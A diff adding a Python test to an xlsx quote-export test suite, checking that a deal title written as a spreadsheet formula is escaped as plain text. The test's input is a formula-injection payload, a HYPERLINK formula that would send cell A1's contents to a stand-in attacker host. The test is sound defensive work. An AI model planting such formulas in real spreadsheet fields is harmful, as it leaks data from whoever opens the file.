@@ -71,3 +71,16 @@ def test_quote_xlsx_has_lines_totals_and_clause():
     assert values[-1] == [
         "本件について、弊社保守メニューをご希望の場合は、弊社サポートセンターまでお問い合わせください。"
     ]
+
+
+def test_quote_xlsx_writes_a_formula_title_as_text():
+    deal = make_document_deal().deal
+    deal.title = '=HYPERLINK("http://attacker.invalid/?q="&A1,"見積")'
+    deal.save(update_fields=["title"])
+
+    sheet = load_workbook(io.BytesIO(export_quote(deal=deal, fmt="xlsx").content)).active
+    title = next(row[1] for row in sheet.iter_rows() if row[0].value == "件名")
+
+    assert title.value == "'" + deal.title
+    assert title.data_type == "s"
+    assert not [cell.coordinate for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
